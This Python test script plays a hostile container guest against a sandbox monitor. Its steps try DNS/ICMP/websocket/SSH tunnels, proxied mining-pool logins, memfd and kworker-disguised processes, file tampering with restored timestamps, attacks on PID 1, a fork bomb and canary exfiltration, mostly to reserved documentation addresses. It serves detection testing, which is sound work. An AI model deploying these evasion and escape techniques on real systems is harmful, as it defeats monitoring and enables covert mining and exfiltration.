"""A guest that tries to get past whoever watches it. It runs inside of containers only: `python3 /evade STEP…`.

Each step is a process of its own (`python3 /evade do STEP`), so that what is told can be matched with who did it, and prints one line
of JSON: the step, and what came of it as the guest sees it. Addresses and names are those reserved for documentation and tests
(RFC 5737, RFC 3849, RFC 2606). Nothing is done for real: no work is mined, no data is taken anywhere.
"""

import base64
import ctypes
import errno
import fcntl
import json
import os
import random
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

# What a guest does, it does by system calls, and not by the classes around them:
# ruff: noqa: PTH101, PTH103, PTH108, PTH116, PTH123, PTH208, SIM115

STAY = 120
"""Seconds for which what is to be found running stays; the observation ends it sooner."""
STRATUM = "stratum" + "+tcp://"  # in pieces: this file is no miner
LOGIN = (
    json.dumps({"id": 1, "method": "login", "params": {"login": "WALLET", "pass": "x", "agent": "look-alike/1"}}) + "\n"
).encode()
_LIBC = ctypes.CDLL(None, use_errno=True)
_DOWN = struct.pack("16sH14x", b"eth0", 0)
"""struct ifreq for SIOCSIFFLAGS (netdevice(7)): the wire without IFF_UP."""
_IO_URING_SETUP, _PTRACE_ATTACH, _PR_SET_NAME = 425, 16, 15


def refused(call: Callable[..., Any], *words: Any) -> str:
    """Call it; the error's name, or `granted`."""
    try:
        call(*words)
    except OSError as e:
        return errno.errorcode.get(e.errno or 0, str(e))
    return "granted"


def system(number_or_name: int | str, *arguments: Any) -> str:
    """A system call by its number, or a function of the C library: the error's name, or `granted`."""
    if isinstance(number_or_name, int):
        result = _LIBC.syscall(number_or_name, *arguments)
    else:
        result = getattr(_LIBC, number_or_name)(*arguments)
    return "granted" if result >= 0 else errno.errorcode[ctypes.get_errno()]


def tcp(host: str, port: int, data: bytes = b"", seconds: float = 10) -> bytes:
    """What the server answers, b"" for nothing."""
    with socket.create_connection((host, port), seconds) as one:
        if data:
            one.sendall(data)
        try:
            return one.recv(4096)
        except TimeoutError:
            return b""


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def tls(host: str, port: int, name: str, *, trusting: bool = True) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    if trusting:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection((host, port), 10), server_hostname=name)


# ---- who is watching?


def environment() -> dict[str, Any]:
    """What tells a guest that it is in a sinkhole."""
    unknown = f"x{random.getrandbits(64):x}.invalid"
    began = time.monotonic()
    tcp("203.0.113.201", 80, b"GET / HTTP/1.0\r\n\r\n")
    seconds = time.monotonic() - began
    status = open("/proc/self/status").read()
    with tls("198.51.100.201", 443, "www.example.com") as one:
        certificate = one.getpeercert(True) or b""
    dmi = ""
    with suppress(OSError):
        dmi = open("/sys/class/dmi/id/product_name").read().strip()
    return {
        "a name that cannot be": socket.gethostbyname(unknown),
        "process 1": open("/proc/1/comm").read().strip(),
        "own number": os.getpid(),
        "seccomp": status.partition("\nSeccomp:\t")[2][:1],
        "seconds": seconds,
        "certificate": b"sandscan" in certificate,
        "resolver": open("/etc/resolv.conf").read(),
        "host name": socket.gethostname(),
        "dmi": dmi,
    }


# ---- ways around names and ports


def doh() -> str:
    with tls("198.51.100.53", 443, "dns.example.net") as one:
        asked = question("c2.doh.example")
        one.sendall(
            b"POST /dns-query HTTP/1.1\r\nHost: dns.example.net\r\nContent-Type: application/dns-message\r\n"
            b"Accept: application/dns-message\r\nContent-Length: %d\r\n\r\n%s" % (len(asked), asked)
        )
        return one.recv(200).split(b"\r\n")[0].decode()


def dot() -> str:
    with tls("198.51.100.54", 853, "dot.example.net") as one:
        asked = question("c2.dot.example")
        one.sendall(struct.pack(">H", len(asked)) + asked)
        return str(len(one.recv(200)))


def hard_coded_address() -> str:
    tcp("203.0.113.99", 443, b"GET /beacon HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n")
    return "answered"


def hard_coded_resolver() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(10)
        one.sendto(question("exfil.example"), ("192.0.2.53", 53))
        return str(one.recvfrom(500)[1][0])


def ipv6_only() -> str:
    return tcp("2001:db8::99", 3333, LOGIN).decode()[:40]


def mapped() -> str:
    """IPv4 through an IPv6 socket."""
    with socket.socket(socket.AF_INET6) as one:
        one.settimeout(10)
        one.connect(("::ffff:203.0.113.98", 3333))
        one.sendall(LOGIN)
        return one.recv(100).decode()[:40]


# ---- tunnels


def icmp_tunnel() -> str:
    """By a ping socket, which needs no capability."""
    answers = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as one:
        one.settimeout(5)
        for number in range(60):
            data = os.urandom(300 + 17 * number)
            one.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, number) + data, ("203.0.113.70", 0))
            with suppress(TimeoutError):
                answers += data in one.recv(4096)
    return f"{answers} echoes"


def dns_tunnel() -> str:
    for _ in range(60):
        label = base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")
        with suppress(OSError):
            socket.gethostbyname(f"{label}.t.tunnel.example")
    return "asked"


def websocket_tunnel() -> str:
    """As chisel does it."""
    upgrade = (
        b"GET / HTTP/1.1\r\nHost: tunnel.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n"
    )
    return tcp("tunnel.example", 80, upgrade).split(b"\r\n")[0].decode()


def websocket_plain() -> str:
    """The same by a client that names no protocol, and speaks SSH inside."""
    with socket.create_connection(("plain-tunnel.example", 80), 10) as one:
        one.sendall(
            b"GET /ws HTTP/1.1\r\nHost: plain-tunnel.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        said = one.recv(1000)
        hello = b"SSH-2.0-look-alike\r\n"
        one.sendall(bytes([0x82, 0x80 | len(hello)]) + b"\0\0\0\0" + hello)
        one.settimeout(5)
        with suppress(OSError):
            said += one.recv(1000)
        return said.split(b"\r\n")[0].decode()


_SSH = (
    "ssh -F /dev/null -N -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ExitOnForwardFailure=yes "
    "-o BatchMode=yes -o ConnectTimeout=20"
).split()


def ssh_443() -> str:
    return _ssh("-R", "2443:localhost:22", "-p", "443", "agent@203.0.113.43")


def ssh_in_tls() -> str:
    return _ssh(
        "-R", "2444:localhost:22", "-o", "ProxyCommand=python3 /evade wrap 203.0.113.44 443", "agent@inside.example"
    )


def _ssh(*words: str) -> str:
    """Stays: a forward that stands has no end of its own."""
    _stays("/usr/bin/ssh", [*_SSH, *words])
    return "started"


def wrap(host: str, port: str) -> None:
    """Standard input and output through TLS."""
    import select

    with tls(host, int(port), "cdn.example.com") as one:
        while True:
            ready, _, _ = select.select([0, one.fileno()], [], [])
            if 0 in ready:
                if not (data := os.read(0, 4096)):
                    return
                one.sendall(data)
            if one.fileno() in ready:
                while True:
                    if not (data := one.recv(4096)):
                        return
                    os.write(1, data)
                    if not one.pending():
                        break


def socks_proxy() -> str:
    with socket.create_connection(("203.0.113.80", 1080), 10) as one:
        one.sendall(b"\x05\x01\x00")
        one.recv(2)
        host = b"pool.socks.example"
        one.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack(">H", 3333))
        one.recv(100)
        one.sendall(LOGIN)
        return one.recv(300).decode()[:40]


def http_proxy() -> str:
    with socket.create_connection(("203.0.113.81", 3128), 10) as one:
        one.sendall(b"CONNECT pool.proxy.example:3333 HTTP/1.1\r\nHost: pool.proxy.example:3333\r\n\r\n")
        one.recv(300)
        one.sendall(LOGIN)
        return one.recv(300).decode()[:40]


# ---- pools


def pool_pinned() -> str:
    """A client that trusts no certificate but its pool's."""
    try:
        tls("pool.pinned.example", 443, "pool.pinned.example", trusting=False).close()
    except ssl.SSLCertVerificationError:
        return "refused the certificate"
    return "went on"


def pool_known_pinned() -> str:
    """The same, with the name of a pool that everybody knows."""
    try:
        known = ".".join(("pool", "supportxmr", "com"))
        tls(known, 443, known, trusting=False).close()
    except ssl.SSLCertVerificationError:
        return "refused the certificate"
    return "went on"


def pool_tls() -> str:
    with tls("pool.tls.example", 443, "pool.tls.example") as one:
        one.sendall(LOGIN)
        return one.recv(300).decode()[:40]


def slow_drip() -> str:
    """A login in single bytes, a second between the first ones."""
    with socket.create_connection(("pool.slow.example", 3333), 10) as one:
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(3):
            one.sendall(LOGIN[at : at + 1])
            time.sleep(1.2)
        for at in range(3, len(LOGIN)):
            one.sendall(LOGIN[at : at + 1])
            time.sleep(0.01)
        return one.recv(300).decode()[:40]


def padded() -> str:
    """A login behind a line that means nothing."""
    with socket.create_connection(("pool.padded.example", 3333), 10) as one:
        one.sendall(b"hello\n")
        time.sleep(2)
        one.sendall(LOGIN)
        one.settimeout(2)
        with suppress(TimeoutError):
            return one.recv(300).decode()[:40]
    return ""


def encrypted() -> str:
    """Bytes that are like any others, from the first one on."""
    tcp("own.example", 8443, random.Random(6).randbytes(600), 1)
    return "sent"


def loopback() -> str:
    """A login that never leaves the sandbox."""
    with socket.create_server(("127.0.0.1", 3334)) as server:
        if os.fork() == 0:
            tcp("127.0.0.1", 3334, LOGIN, 1)
            os._exit(0)
        one, _ = server.accept()
        with one:
            said = one.recv(4096)
    os.wait()
    return str(said == LOGIN)


def nothing_said() -> str:
    socket.create_connection(("203.0.113.60", 6000), 10).close()
    return "connected"


# ---- ways around the network


def io_uring() -> str:
    return system(_IO_URING_SETUP, 8, ctypes.create_string_buffer(120))


def vsock() -> str:
    """Asked for, and nothing more: it is refused, or closed at once."""
    return refused(socket.socket, socket.AF_VSOCK, socket.SOCK_STREAM)  # without a name for it, it is closed at once


def engine_socket() -> str:
    with socket.socket(socket.AF_UNIX) as one:
        return refused(one.connect, "/var/run/docker.sock")


def unix_proxy() -> str:
    """One process has the connection, another one the words."""
    if os.fork() == 0:
        os.execv(sys.executable, ["python3", "/evade", "relay"])
    for _ in range(200):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect("/tmp/relay.sock")
            one.sendall(LOGIN)
            return one.recv(300).decode()[:40]
        time.sleep(0.05)
    return "no relay"


def relay() -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("/tmp/relay.sock")
        server.listen()
        inner, _ = server.accept()
        with inner, socket.create_connection(("pool.relayed.example", 3333), 10) as outer:
            outer.sendall(inner.recv(4096))
            inner.sendall(outer.recv(4096))


def passed() -> str:
    """A connection that one process opens and another one uses (SCM_RIGHTS)."""
    ours, theirs = socket.socketpair()
    os.set_inheritable(theirs.fileno(), True)
    if os.fork() == 0:
        os.execv(sys.executable, ["python3", "/evade", "receiver", str(theirs.fileno())])
    theirs.close()
    one = socket.create_connection(("203.0.113.61", 3333))
    socket.send_fds(ours, [b"x"], [one.fileno()])
    one.close()
    return ours.recv(100).decode()


def receiver(descriptor: str) -> None:
    with socket.socket(fileno=int(descriptor)) as ours:
        _, (found,), _, _ = socket.recv_fds(ours, 1, 1)
        with socket.socket(fileno=found) as one:
            one.sendall(LOGIN)
            said = one.recv(300)[:40]
            ours.sendall(said)
            ours.close()
            time.sleep(STAY)


def namespaces() -> dict[str, str]:
    """A network of its own, where nothing of the outer one is: unshare(2), clone(2) and setns(2)."""
    found = {}
    for name, flag in {"user": 0x10000000, "net": 0x40000000, "user and net": 0x50000000, "pid": 0x20000000}.items():
        found[name] = system("unshare", flag)
    # clone(flags | SIGCHLD, 0, 0, 0, 0) by its number: a fork into new namespaces
    result = _LIBC.syscall(56, 0x50000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if result == 0:
        os._exit(0)
    found["clone"] = "granted" if result > 0 else errno.errorcode[ctypes.get_errno()]
    pause = os.open("/proc/self/ns/net", os.O_RDONLY)
    found["setns"] = system("setns", pause, 0x40000000)
    return found


def raw() -> dict[str, str]:
    return {
        "raw": refused(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        "packet": refused(socket.socket, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
    }


# ---- whoever watches


def observer() -> dict[str, str]:
    """End, stop or look into what holds the sandbox."""
    found = {
        "kill 1": refused(os.kill, 1, signal.SIGKILL),
        "stop 1": refused(os.kill, 1, signal.SIGSTOP),
        "trace 1": system("ptrace", _PTRACE_ATTACH, 1, 0, 0),
        "memory of 1": refused(open, "/proc/1/mem", "r+b"),
        "input of 1": refused(open, "/proc/1/fd/0", "rb"),
        "root of 1": refused(os.listdir, "/proc/1/root/"),
        "parent": str(os.getppid()),
    }
    for name, value in (
        ("net/ipv4/ip_forward", "1"),
        ("kernel/core_pattern", "|/tmp/x"),
        ("net/ipv4/conf/all/rp_filter", "0"),
        ("kernel/hostname", "x"),
    ):
        path = f"/proc/sys/{name}"
        found[name] = refused(_put, path, value)
    found["mount"] = system("mount", b"none", b"/mnt", b"tmpfs", 0, 0)
    found["bpf"] = system(321, 0, 0, 0)
    found["reboot"] = system(169, 0, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        found["link down"] = refused(fcntl.ioctl, one, 0x8914, _DOWN)
    return found


def _put(path: str, value: str) -> None:
    with open(path, "w") as file:
        file.write(value)


# ---- hiding


def memory() -> str:
    """A program that never was a file, under the name of a thread of the kernel."""
    held = os.memfd_create("payload", 0)
    with open("/usr/bin/sleep", "rb") as program:
        os.write(held, program.read())
    _stays(held, ["[kworker/0:1-events]", str(STAY)])
    return "started"


def _stays(program: int | str, words: list[str]) -> int:
    """Its number, once it is that program: then the kernel closes what is not inherited."""
    over, held = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.setsid()
        nothing = os.open("/dev/null", os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(nothing, descriptor)
        if isinstance(program, int):
            os.execve(f"/proc/self/fd/{program}", words, {})
        os.execv(program, words)
    os.close(held)
    os.read(over, 1)
    os.close(over)
    return pid


def _until(table: str, entry: str) -> None:
    """Until the network namespace has such a socket, as /proc/net/TABLE writes its ends and its state."""
    while entry not in open(f"/proc/net/{table}").read():
        time.sleep(0.02)


def deleted() -> str:
    shutil.copy("/usr/bin/sleep", "/tmp/.gone")
    _stays("/tmp/.gone", ["/tmp/.gone", str(STAY + 1)])
    os.unlink("/tmp/.gone")
    return "deleted"


def brief() -> str:
    """Made, run and deleted again before anybody looks at files."""
    shutil.copy("MINER", "/tmp/.brief")
    os.chmod("/tmp/.brief", 0o755)
    started = subprocess.Popen(["/tmp/.brief", "-o", STRATUM + "pool.brief.example:3333", "-u", "WALLET"])
    time.sleep(0.3)
    started.kill()
    started.wait()
    os.unlink("/tmp/.brief")
    return "gone"


def disguised() -> str:
    """Another name, and other words than those it was started with."""
    ready, told = os.pipe()
    if os.fork() == 0:
        os.dup2(told, 9)
        os.execv(
            sys.executable,
            ["python3", "/evade", "disguise", "-o", STRATUM + "pool.disguised.example:3333", "-u", "WALLET"],
        )
    os.read(ready, 1)
    return "disguised"


def disguise(*_: str) -> None:
    _LIBC.prctl(_PR_SET_NAME, b"kworker/u8:2", 0, 0, 0)
    fields = open("/proc/self/stat").read().rpartition(")")[2].split()
    start, end = int(fields[45]), int(fields[46])
    new = b"[kworker/u8:2]"
    ctypes.memmove(start, new.ljust(end - start, b"\0"), end - start)
    os.write(9, b"x")
    os.close(9)
    os.setsid()
    time.sleep(STAY)


def renamed() -> str:
    """Another word for itself from the beginning."""
    subprocess.run(["[kthreadd]", "0.1"], executable="/usr/bin/sleep", check=False)
    return "ran"


def daemon() -> str:
    """Out of its session, and away from its parent."""
    over, held = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while os.getppid() != 1:
                time.sleep(0.01)
            tcp("203.0.113.62", 3333, LOGIN)
            os._exit(0)
        os._exit(0)
    os.close(held)
    os.read(over, 1)  # until the daemon has ended
    return "left"


def listens() -> str:
    """A door that waits for somebody."""
    _stays(sys.executable, ["python3", "/evade", "door"])
    _until("tcp", ":115C 00000000:0000 0A")
    return "waits"


def door() -> None:
    with socket.create_server(("", 4444)):
        time.sleep(STAY)


def restored() -> str:
    """Another program of the same length, with the times of the old one."""
    old = os.stat("/usr/local/bin/report")
    with open("/usr/local/bin/report", "r+b") as script:
        text = script.read()
        script.seek(0)
        script.write(text.replace(b"exit 0", b"exit 1"))
    os.utime("/usr/local/bin/report", ns=(old.st_atime_ns, old.st_mtime_ns))
    return str(os.stat("/usr/local/bin/report").st_size - old.st_size)


# ---- too much


def connections() -> str:
    """10,000 connections to as many addresses and ports."""
    made = 0
    for number in range(10_000):
        with suppress(OSError), socket.socket() as one:
            one.settimeout(5)
            one.connect((f"198.51.100.{number % 250 + 1}", 1024 + number // 250))
            made += 1
    return str(made)


def output() -> str:
    piece = b"all work and no play makes jack a dull boy\n" * 1500
    for _ in range(3200):
        sys.stderr.buffer.write(piece)
    return str(3200 * len(piece))


def forks() -> str:
    """A fork bomb that lasts two seconds."""
    end = time.monotonic() + 2
    failed = 0
    while time.monotonic() < end:
        try:
            pid = os.fork()
        except OSError:
            failed += 1
            time.sleep(0.01)
            continue
        if pid == 0:
            while time.monotonic() < end:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
            os._exit(0)
    with suppress(ChildProcessError):
        while True:
            os.wait()
    return f"refused {failed} times" if failed else "never refused"


def disk() -> str:
    """Until somebody ends it: no single file grows beyond what one may."""
    for number in range(1000):
        with open(f"/var/tmp/full-{number}", "wb") as full:
            full.write(b"\xa5" * (4 << 20))
    return "never stopped"


def kill_all() -> dict[str, int]:
    """Every process that it sees but whoever waits for it, number 1 too, and then one more connection."""
    told: dict[str, int] = {}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
            came = refused(os.kill, int(name), signal.SIGKILL)
            told[came] = told.get(came, 0) + 1
    tcp("203.0.113.63", 3333, LOGIN)
    return told


def late() -> str:
    time.sleep(6)
    tcp("203.0.113.64", 3333, LOGIN)
    return "late"


# ---- files


def swapped() -> str:
    """One of two names of a file, with the same length and time as before."""
    old = os.stat("/usr/local/bin/twin")
    with open("/usr/local/bin/twin", "r+b") as script:
        text = script.read()
        script.seek(0)
        script.write(text.replace(b"exit 0", b"exit 2"))
    os.utime("/usr/local/bin/twin", ns=(old.st_atime_ns, old.st_mtime_ns))
    return str(old.st_nlink)


def elsewhere() -> str:
    """Programs where no layer is: a volume, memory, a folder of the host's."""
    for folder in ("/data", "/scratch", "/dev/shm", "/bound"):
        shutil.copy("MINER", f"{folder}/.cache")
        os.chmod(f"{folder}/.cache", 0o755)
    with open("/bound/start.sh", "r+b") as script:
        text = script.read()
        script.seek(0)
        script.write(text.replace(b"exit 0", b"exit 3"))
    return "written"


def short_lived() -> str:
    """A file that is not there any more when somebody looks."""
    shutil.copy("MINER", "/usr/local/bin/short-lived")
    os.unlink("/usr/local/bin/short-lived")
    return "gone"


def marks() -> str:
    """The names and the device by which layers say that something was removed, to hide what lies beside them."""
    os.makedirs("/opt/hidden", exist_ok=True)
    shutil.copy("MINER", "/opt/hidden/worker")
    os.chmod("/opt/hidden/worker", 0o755)
    for mark in ("/opt/hidden/.wh.worker", "/opt/hidden/.wh..wh..opq", "/usr/local/bin/.wh.report"):
        open(mark, "w").close()
    return refused(os.mknod, "/opt/hidden/device", 0o020000, 0)


def rights() -> str:
    shutil.copy("/usr/bin/sleep", "/scratch/owner")
    os.chmod("/scratch/owner", 0o4755)
    shutil.copy("/usr/bin/sleep", "/usr/local/bin/capable")
    # struct vfs_cap_data of capabilities(7): revision 2, effective, CAP_NET_RAW permitted
    data = struct.pack("<5I", 0x02000001, 1 << 13, 0, 0, 0)
    return refused(os.setxattr, "/usr/local/bin/capable", "security.capability", data)


# ---- what stays, for a look


def pool_server() -> None:
    """Whoever connects gets a line."""
    held = []
    with socket.create_server(("", 3333), backlog=100) as server:
        while True:
            one, _ = server.accept()
            one.sendall(b"welcome\n")
            held.append(one)


def mapped_stays() -> str:
    _stays(sys.executable, ["python3", "/evade", "mapping"])
    _until("tcp6", ":0D05 01")
    return "started"


def mapping() -> None:
    with socket.socket(socket.AF_INET6) as one:
        one.connect(("::ffff:203.0.113.98", 3333))
        time.sleep(STAY)


def nested() -> None:
    """A process in a PID namespace within the container's, and in a network of its own."""
    print("unshare", _LIBC.unshare(0x60000000), flush=True)
    pid = _stays(sys.executable, ["python3", "/evade", "inner"])
    _until("tcp", ":115D 00000000:0000 0A")
    print("nested:", pid, flush=True)
    time.sleep(STAY)


def inner() -> None:
    with socket.create_server(("", 4445)):
        time.sleep(STAY)


# ---- ways out, each with a mark that somebody outside would know

MARK = b"sandscan-canary-mark"


def out_streams(*places: str) -> dict[str, str]:
    """TCP with the mark to each `address,port`."""
    return {place: refused(_marked, place) for place in places}


def _marked(place: str) -> None:
    host, _, port = place.rpartition(",")
    with socket.create_connection((host, int(port)), 5) as one:
        one.sendall(MARK)


def out_datagrams(*places: str) -> dict[str, str]:
    told = {}
    for place in places:
        host, _, port = place.rpartition(",")
        family, kind, _, _, where = socket.getaddrinfo(host, int(port), type=socket.SOCK_DGRAM)[0]
        with socket.socket(family, kind) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            told[place] = refused(one.sendto, MARK, where)
    return told


def out_echoes(*hosts: str) -> dict[str, str]:
    told = {}
    for host in hosts:
        six = ":" in host
        with socket.socket(
            socket.AF_INET6 if six else socket.AF_INET,
            socket.SOCK_DGRAM,
            socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP,
        ) as one:
            data = struct.pack(">BBHHH", 128 if six else 8, 0, 0, 0, 1) + MARK
            told[host] = refused(one.sendto, data, (host, 0))
    return told


def out_names(*servers: str) -> dict[str, str]:
    """A name with the mark, of servers that nobody named."""
    return {server: refused(_asked, server) for server in servers}


def _asked(server: str) -> None:
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(5)
        one.sendto(question(f"{MARK.decode()}.example"), (server, 53))
        one.recv(500)


def out_raw(*hosts: str) -> dict[str, str]:
    """IP packets of all kinds by a raw socket, and frames by a packet socket."""
    told: dict[str, str] = {}
    for host in hosts:
        if ":" in host:
            with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 253) as six:
                told[host] = refused(six.sendto, MARK, (host, 0))
            continue
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as one:
            for protocol in (1, 6, 17, 47, 253):
                whole = _packet(protocol, host)
                told[f"{host} {protocol}"] = refused(one.sendto, whole, (host, 0))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as frames:
        frames.bind(("eth0", 0))
        for to in (b"\xff" * 6, bytes.fromhex("020000000001"), bytes.fromhex("333300000001")):
            for kind in (0x0800, 0x0806, 0x86DD, 0x88CC, 0x8100):
                data = (
                    to
                    + bytes.fromhex("020000000002")
                    + struct.pack(">H", kind)
                    + (_packet(17, hosts[0]) if kind == 0x0800 else MARK * 3)
                )
                told[f"frame {kind:04x} to {to.hex()}"] = refused(frames.send, data)
    return told


def _packet(protocol: int, host: str, source: str = "192.0.2.77") -> bytes:
    """An IPv4 packet with a source that is nobody's."""
    header = struct.pack(
        ">BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(MARK),
        7,
        0,
        64,
        protocol,
        0,
        socket.inet_aton(source),
        socket.inet_aton(host),
    )
    return header + MARK


def out_sockets(*paths: str) -> dict[str, str]:
    """Unix sockets of the host by their paths and names (`@` for an abstract one)."""
    told = {}
    for path in paths:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(5)
            told[path] = refused(one.connect, path.replace("@", "\0", 1))
    return told


def out_links() -> dict[str, str]:
    """With NET_ADMIN: a device of its own whose other end lies in the namespace behind its wire, and one in process 1's."""
    told = {}
    for name, where in {"behind the wire": (46, 0), "of process 1": (19, 1)}.items():
        told[name] = refused(_link, *where)
    return told


def out_down() -> str:
    """With NET_ADMIN: the wire down, and a last try."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        came = refused(fcntl.ioctl, one, 0x8914, _DOWN)
    time.sleep(1.5)
    return f"{came}, {refused(_marked, '203.0.113.7,80')}"


def _link(attribute: int, value: int) -> None:
    """RTM_NEWLINK (rtnetlink(7)) of a bridge with IFLA_TARGET_NETNSID 46 or IFLA_NET_NS_PID 19. Raises OSError."""

    def attr(kind: int, data: bytes) -> bytes:
        return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)

    body = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + attr(3, b"out0\0") + attr(18, attr(1, b"bridge\0"))
    body += attr(attribute, struct.pack("=I", value))
    message = struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.send(message)
        code = struct.unpack_from("=i", one.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))


def everything(steps: list[str]) -> None:
    """Each step in a process of its own, four at a time; what comes after a `+` when all the others have ended."""
    waiting = list(steps)
    running: set[int] = set()
    while waiting or running:
        alone = bool(waiting) and waiting[0].startswith("+")
        while waiting and len(running) < 4 and not (waiting[0].startswith("+") and running):
            step = waiting.pop(0).removeprefix("+")
            running.add(os.posix_spawn(sys.executable, ["python3", "/evade", "do", step], os.environ))
            if alone:
                break
        pid, _ = os.wait()
        running.discard(pid)


def main() -> None:
    what, *rest = sys.argv[1:]
    if what == "do":
        try:
            name, *words = rest[0].split(" ")
            told: Any = globals()[name](*words)
        except Exception as e:
            told = f"{type(e).__name__}: {e}"
        os.write(1, (json.dumps({"step": name, "told": told}) + "\n").encode())
    elif what == "all":
        everything(rest)
    else:
        globals()[what](*rest)


if __name__ == "__main__":
    main()
